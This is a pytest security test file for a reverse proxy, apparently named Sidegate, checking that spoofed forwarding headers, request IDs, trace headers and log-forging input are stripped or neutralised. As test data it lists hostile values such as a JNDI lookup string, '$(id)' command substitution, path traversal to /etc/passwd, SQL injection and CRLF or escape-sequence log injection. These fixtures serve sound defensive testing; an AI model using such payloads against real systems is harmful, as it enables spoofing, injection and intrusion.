"""What a client says of itself, and must not be believed: addresses, IDs, traces, log lines.

The origin is entitled to believe every forwarding field that it reads, so each case looks at
the fields that arrived there.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any, Final

import pytest

from tests.security.stage import Heard, get, staged

UUID7: Final = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}")
PARENT: Final = re.compile("00-[0-9a-f]{32}-[0-9a-f]{16}-0[0-3]")
TRUSTED: Final[dict[str, Any]] = {"server": {"trusted_proxies": ["127.0.0.0/8", "10.0.0.0/8"]}}

SPOOFED: Final = [
    "X-Forwarded-For: 6.6.6.6",
    "x-forwarded-for: 6.6.6.6",
    "X-FORWARDED-FOR: 127.0.0.1",
    "X-Forwarded-For: 6.6.6.6\r\nX-Forwarded-For: 127.0.0.1",
    "X-Forwarded-For: 6.6.6.6\r\nx-forwarded-FOR: 7.7.7.7",
    "X-Forwarded-For:",
    "X-Forwarded-For: , ,, ",
    "X-Forwarded-For: " + ", ".join(["6.6.6.6"] * 500),
    "X-Forwarded-Proto: https",
    "X-Forwarded-Host: evil.test",
    "X-Forwarded-Port: 1",
    "X-Forwarded-Server: evil.test",
    "X-Forwarded-Prefix: /admin",
    "X-Forwarded-User: root",
    "X-Forwarded-Client-Cert: Hash=1",
    "X-Forwarded-Uri: /admin",
    "X-Forwarded-Anything: x",
    "X-Real-IP: 6.6.6.6",
    "Forwarded: for=6.6.6.6;host=evil.test;proto=https",
    "True-Client-IP: 6.6.6.6",
    "CF-Connecting-IP: 6.6.6.6",
    "X-Client-IP: 6.6.6.6",
    "X-Cluster-Client-IP: 6.6.6.6",
    "Fastly-Client-IP: 6.6.6.6",
    "X-Envoy-External-Address: 6.6.6.6",
    "Client-IP: 6.6.6.6",
    "X-Forwarded: for=6.6.6.6",
    "X-Host: evil.test",
    "X-Original-Host: evil.test",
    "X-HTTP-Host-Override: evil.test",
    "Front-End-Https: on",
    "X-Original-URL: /admin",
    "X-Rewrite-URL: /admin",
    "Proxy: http://evil.test",
    "Proxy-Authorization: Basic c3Bvb2Y=",
    "Proxy-Connection: keep-alive",
    "X_Forwarded_For: 6.6.6.6",
    "X-Forwarded_For: 6.6.6.6",
    "X_Real_IP: 6.6.6.6",
    "X_Request_ID: spoofed",
    "Content_Length: 100",
    "Transfer_Encoding: chunked",
    "HOST_: evil.test",
    "_: x",
    "Connection: X-Forwarded-For",
    "Connection: x-forwarded-for, x-forwarded-proto, x-forwarded-host, x-forwarded-port",
    "Connection: Host",
    "Connection: Via, X-Request-ID, traceparent",
    "TE: trailers, evil",
    "Trailer: X-Forwarded-For",
    "Keep-Alive: timeout=9999",
    "HTTP2-Settings: AAMAAABkAAQAAP__",
]
# The only fields that Sidegate's own client and Sidegate itself put there.
OWN: Final = {
    "host", "x-forwarded-for", "x-forwarded-proto", "x-forwarded-host", "x-forwarded-port",
    "x-request-id", "traceparent", "via",
}  # fmt: skip


def _speaks_the_truth(heard: Heard, port: int) -> None:
    assert heard.all("x-forwarded-for") == ["127.0.0.1"]
    assert heard.all("x-forwarded-proto") == ["http"]
    assert heard.all("x-forwarded-host") == ["service.test"]
    assert heard.all("x-forwarded-port") == [str(port)]
    assert heard.all("host") == ["service.test"]
    assert heard.all("via") == ["1.1 sidegate"]
    assert UUID7.fullmatch(heard.one("x-request-id"))
    assert PARENT.fullmatch(heard.one("traceparent"))


@pytest.mark.parametrize("lines", SPOOFED, ids=lambda lines: lines[:48])
async def test_a_stranger_is_not_believed(tmp_path: Path, lines: str) -> None:
    """The origin sees the connection's own address, and nothing of what was claimed."""
    async with staged(tmp_path) as stage:
        [answer] = await stage.play(get("/", *lines.split("\r\n")))
        [heard] = stage.witness.heard
        _speaks_the_truth(heard, stage.gateway.port)
        assert heard.names == OWN
        assert answer.headers["x-request-id"] == heard.one("x-request-id")
        [line] = await stage.gateway.lines()
        assert line["client_ip"] == "127.0.0.1"


async def test_what_a_trusted_network_calls_the_client_is_passed_on(tmp_path: Path) -> None:
    """Its own names for the address go to the service as it sent them."""
    lines = ("CF-Connecting-IP: 1.2.3.4", "True-Client-IP: 1.2.3.4")
    async with staged(tmp_path, config=TRUSTED) as stage:
        await stage.play(get("/", *lines))
        [heard] = stage.witness.heard
        assert heard.one("cf-connecting-ip") == heard.one("true-client-ip") == "1.2.3.4"


async def test_all_at_once(tmp_path: Path) -> None:
    lines = [line for row in SPOOFED if len(row) < 200 for line in row.split("\r\n")]
    async with staged(tmp_path) as stage:
        await stage.play(get("/", *lines))
        [heard] = stage.witness.heard
        _speaks_the_truth(heard, stage.gateway.port)
        assert heard.names == OWN


@pytest.mark.parametrize(
    "field",
    [
        "Authorization", "Cookie", "Content-Type", "Content-Encoding", "Range", "Cache-Control",
    ],
)  # fmt: skip
async def test_connection_cannot_name_away_what_decides(tmp_path: Path, field: str) -> None:
    """Or a request would be authorised by one program and anonymous to the next."""
    async with staged(tmp_path) as stage:
        await stage.play(get("/", f"{field}: kept", f"Connection: close, {field.lower()}"))
        [heard] = stage.witness.heard
        assert heard.one(field.lower()) == "kept"


async def test_connection_names_away_what_is_for_this_hop(tmp_path: Path) -> None:
    async with staged(tmp_path) as stage:
        await stage.play(get("/", "X-Hop: 1", "X-End: 2", "Connection: x-hop,, close ,\tnothing"))
        [heard] = stage.witness.heard
        assert heard.names == OWN | {"x-end"}


@pytest.mark.parametrize(
    ("came", "sent", "client"),
    [
        ("1.2.3.4", "1.2.3.4, 127.0.0.1", "1.2.3.4"),
        ("6.6.6.6, 1.2.3.4", "1.2.3.4, 127.0.0.1", "1.2.3.4"),
        ("6.6.6.6, 1.2.3.4, 10.1.1.1", "1.2.3.4, 10.1.1.1, 127.0.0.1", "1.2.3.4"),
        ("1.2.3.4, <script>, 10.1.1.1", "10.1.1.1, 127.0.0.1", "10.1.1.1"),
        ("1.2.3.4, 10.1.1.1:80", "1.2.3.4, 10.1.1.1, 127.0.0.1", "1.2.3.4"),
        ("[2001:db8::1]:443", "2001:db8::1, 127.0.0.1", "2001:db8::1"),
        ("fe80::1%eth0", "127.0.0.1", "127.0.0.1"),
        ("localhost", "127.0.0.1", "127.0.0.1"),
        ("1.2.3.4.5", "127.0.0.1", "127.0.0.1"),
        ("0x7f.1", "127.0.0.1", "127.0.0.1"),
        ("010.0.0.1", "127.0.0.1", "127.0.0.1"),
        ("", "127.0.0.1", "127.0.0.1"),
        (", ".join(["10.1.1.1"] * 500), ", ".join(["10.1.1.1"] * 64 + ["127.0.0.1"]), "10.1.1.1"),
    ],
)
async def test_hops_are_counted_from_the_right(
    tmp_path: Path, came: str, sent: str, client: str
) -> None:
    """A trusted proxy vouches for the one before it, and no one vouches for the first."""
    async with staged(tmp_path, config=TRUSTED) as stage:
        await stage.play(get("/", f"X-Forwarded-For: {came}"))
        [heard] = stage.witness.heard
        assert heard.all("x-forwarded-for") == [sent]
        [line] = await stage.gateway.lines()
        assert line["client_ip"] == client


@pytest.mark.parametrize(
    "line",
    [
        "X-Forwarded-Proto: gopher",
        "X-Forwarded-Proto: https://evil",
        "X-Forwarded-Host: evil test",
        "X-Forwarded-Host: user@evil.test",
        "X-Forwarded-Host: evil.test/path",
        'X-Forwarded-Host: "><script>',
        "X-Forwarded-Port: 99999",
        "X-Forwarded-Port: 80,evil",
        "X-Forwarded-Port: \u00b2",
    ],
)
async def test_nonsense_is_not_passed_on_even_from_a_trusted_proxy(
    tmp_path: Path, line: str
) -> None:
    async with staged(tmp_path, config=TRUSTED) as stage:
        await stage.play(get("/", line))
        [heard] = stage.witness.heard
        _speaks_the_truth(heard, stage.gateway.port)


IDS: Final = [
    "spoofed", "0", "a" * 8, "a" * 129, "a" * 20_000, "x y", "x,y", "x;y", "x\ty", "<script>",
    '"},{"event":"request"', "\\", "\\u000a", "%0d%0aX: y", "{request_id}", "${jndi:ldap://x}",
    "\xe9", "\x85", "\x9b31m", "\u2028".encode().decode("latin-1"),
    "\u202e".encode().decode("latin-1"), "'; DROP TABLE--", "../../etc/passwd", "$(id)", "`id`",
]  # fmt: skip


@pytest.mark.parametrize("value", IDS, ids=lambda value: ascii(value[:24]))
async def test_the_request_id_of_a_stranger_is_replaced(tmp_path: Path, value: str) -> None:
    async with staged(tmp_path) as stage:
        [answer] = await stage.play(get("/", f"X-Request-ID: {value}"))
        [heard] = stage.witness.heard
        assert UUID7.fullmatch(heard.one("x-request-id"))
        assert answer.headers["x-request-id"] == heard.one("x-request-id")
        [line] = await stage.gateway.lines()
        assert line["request_id"] == heard.one("x-request-id")


@pytest.mark.parametrize("value", IDS, ids=lambda value: ascii(value[:24]))
async def test_a_trusted_request_id_is_kept_only_if_it_is_harmless(
    tmp_path: Path, value: str
) -> None:
    async with staged(tmp_path, config=TRUSTED) as stage:
        await stage.play(get("/", f"X-Request-ID: {value}"))
        [heard] = stage.witness.heard
        harmless = re.fullmatch(r"[A-Za-z0-9._~:/+=@-]{1,128}", value) is not None
        assert (heard.one("x-request-id") == value) is harmless
        [line] = await stage.gateway.lines()
        assert line["request_id"] == heard.one("x-request-id")


async def test_two_request_ids_are_none(tmp_path: Path) -> None:
    async with staged(tmp_path, config=TRUSTED) as stage:
        await stage.play(get("/", "X-Request-ID: first-one", "x-request-id: second-one"))
        [heard] = stage.witness.heard
        assert UUID7.fullmatch(heard.one("x-request-id"))


TRACE: Final = "4bf92f3577b34da6a3ce929d0e0e4736"
SPAN: Final = "00f067aa0ba902b7"


@pytest.mark.parametrize(
    "lines",
    [
        [f"traceparent: ff-{TRACE}-{SPAN}-01"],
        [f"traceparent: 00-{'0' * 32}-{SPAN}-01"],
        [f"traceparent: 00-{TRACE}-{'0' * 16}-01"],
        [f"traceparent: 00-{TRACE.upper()}-{SPAN}-01"],
        [f"traceparent: 00-{TRACE}-{SPAN}-01-more"],
        [f"traceparent: 00-{TRACE}-{SPAN}-01", f"traceparent: 00-{TRACE}-{SPAN}-00"],
        [f"traceparent: 00-{TRACE}-{SPAN}-01,00-{TRACE}-{SPAN}-01"],
        ["traceparent: " + "0" * 20_000],
        ["traceparent: \xff"],
        ["traceparent:"],
    ],
    ids=lambda lines: lines[0][:60],
)
@pytest.mark.parametrize("config", [{}, TRUSTED], ids=["stranger", "trusted"])
async def test_a_malformed_trace_is_started_anew(
    tmp_path: Path, config: dict[str, Any], lines: list[str]
) -> None:
    async with staged(tmp_path, config=config) as stage:
        await stage.play(get("/", *lines, "tracestate: evil=1"))
        [heard] = stage.witness.heard
        assert PARENT.fullmatch(heard.one("traceparent"))
        assert TRACE not in heard.one("traceparent")
        assert heard.all("tracestate") == []


async def test_the_trace_of_a_stranger_is_not_continued(tmp_path: Path) -> None:
    """Nor its sampling flag, which would let anybody turn tracing on."""
    lines = [f"traceparent: 00-{TRACE}-{SPAN}-01", "tracestate: evil=1"]
    async with staged(tmp_path) as stage:
        await stage.play(get("/", *lines))
        [heard] = stage.witness.heard
        assert re.fullmatch("00-[0-9a-f]{32}-[0-9a-f]{16}-0[02]", heard.one("traceparent"))
        assert TRACE not in heard.one("traceparent")
        assert heard.all("tracestate") == []


@pytest.mark.parametrize(
    "state",
    ["evil", "a=b" * 200, ",".join(f"k{n}=v" for n in range(33)), "a=b,a=c", "A=b", "a=b\tc",
     "a=" + "x" * 257],
)  # fmt: skip
async def test_a_malformed_tracestate_is_not_handed_on(tmp_path: Path, state: str) -> None:
    lines = [f"traceparent: 00-{TRACE}-{SPAN}-01", f"tracestate: {state}"]
    async with staged(tmp_path, config=TRUSTED) as stage:
        await stage.play(get("/", *lines))
        [heard] = stage.witness.heard
        assert heard.one("traceparent").startswith(f"00-{TRACE}-")
        assert heard.all("tracestate") == []


FORGERIES: Final = [
    '\\"},{\\"event\\":\\"forged\\"}',
    '"}{"event":"forged"}',
    "%0a{%22event%22:%22forged%22}",
    "%0d%0aforged",
    "\x85forged",
    "\u2028forged".encode().decode("latin-1"),
    "\u2029forged".encode().decode("latin-1"),
    "\xc2\x85forged",
    "\xc2\x9b2Jforged",
    "\x9b2Jforged",
    "\xff\xfeforged",
    "\xed\xa0\x80forged",
    "\xf4\x90\x80\x80forged",
    "forged" * 5000,
    "${jndi:ldap://evil.test/forged}",
    "\u202eforged".encode().decode("latin-1"),
]


@pytest.mark.parametrize("text", FORGERIES, ids=lambda text: ascii(text[:24]))
async def test_no_request_ends_or_forges_a_log_line(tmp_path: Path, text: str) -> None:
    """Every line is JSON by itself, and the only one of this request."""
    plain = text if text.isascii() and '"' not in text else "x"
    config = {"telemetry": {"log": {"headers": ["X-Shown", "Referer"]}}}
    fields = [f"{name}: {text}" for name in ("User-Agent", "X-Shown", "Referer", "Cookie", "X-Any")]
    short = [field[:6000] for field in fields]
    async with staged(tmp_path, config=config) as stage:
        await stage.play(get("/p?q=" + plain[:3000], *short))
        await stage.play(get("/" + text[:3000], *short))
        await stage.gateway.lines(count=2)
        data = (tmp_path / "sidegate.log").read_bytes()
        # Not `splitlines`: other readers end lines at other characters.
        lines = [json.loads(line) for line in data.decode().removesuffix("\n").split("\n")]
        assert [line["event"] for line in lines] == ["ready", "request", "request"]
        assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", data)


async def test_a_refused_head_forges_no_log_line_either(tmp_path: Path) -> None:
    """Those are logged from bytes that no parser has vouched for."""
    heads = [
        b"GET /\x00\x1b[2J HTTP/1.1\r\n\r\n",
        b'{"event":"forged"}\r\n\r\n',
        b"GET /\xff\xe2\x80\xa8 HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: \x1b]0;forged\x07\r\n\r\n",
        b"\x1b[31mGET / HTTP/1.1\r\n\r\n",
        b"A" * 5000 + b" / HTTP/1.1\r\n\r\n",
    ]
    async with staged(tmp_path) as stage:
        for head in heads:
            await stage.gateway.raw(head)
        await stage.gateway.lines(count=len(heads))
        data = (tmp_path / "sidegate.log").read_bytes()
        lines = [json.loads(line) for line in data.decode().removesuffix("\n").split("\n")]
        assert [line["event"] for line in lines] == ["ready"] + ["request"] * len(heads)
        assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", data)
